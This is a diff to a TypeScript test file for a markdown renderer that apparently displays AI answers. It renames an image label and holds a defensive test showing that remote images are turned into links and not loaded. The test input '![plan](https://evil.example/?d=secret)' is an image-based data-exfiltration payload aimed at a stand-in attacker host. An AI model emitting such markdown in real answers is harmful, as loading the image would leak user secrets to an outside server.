@@ -9,7 +9,7 @@ const ID = '20260412093011-abc1234';
 const OTHER = '20260412093011-zzz9999';
 const options: RenderOptions = {
   citation: (id) => (id === ID ? 'verified' : 'unverified'),
-  words: { unverified: 'unverified', unread: 'not read', source: 'source', image: 'Picture:' },
+  words: { unverified: 'unverified', unread: 'not read', source: 'source', image: 'Image:' },
 };
 const stream = (): MarkdownStream => new MarkdownStream(options, (html) => html);
 const shown = (blocks: readonly MarkdownBlock[]): string[] => blocks.map((block) => blockHtml(block).trim());
@@ -133,7 +133,7 @@ describe('what an answer may show', () => {
 
   it('never shows a remote picture', () => {
     expect(whole('![plan](https://evil.example/?d=secret)')).toEqual([
-      '<p><a href="https://evil.example/?d=secret" title="https://evil.example/?d=secret" target="_blank" rel="noopener noreferrer nofollow">Picture: plan</a></p>',
+      '<p><a href="https://evil.example/?d=secret" title="https://evil.example/?d=secret" target="_blank" rel="noopener noreferrer nofollow">Image: plan</a></p>',
     ]);
     expect(whole('![plan](assets/plan.png)')[0]).toContain('<img src="assets/plan.png"');
     expect(whole('![x](//evil.example/i.png)')[0]).not.toContain('<img');
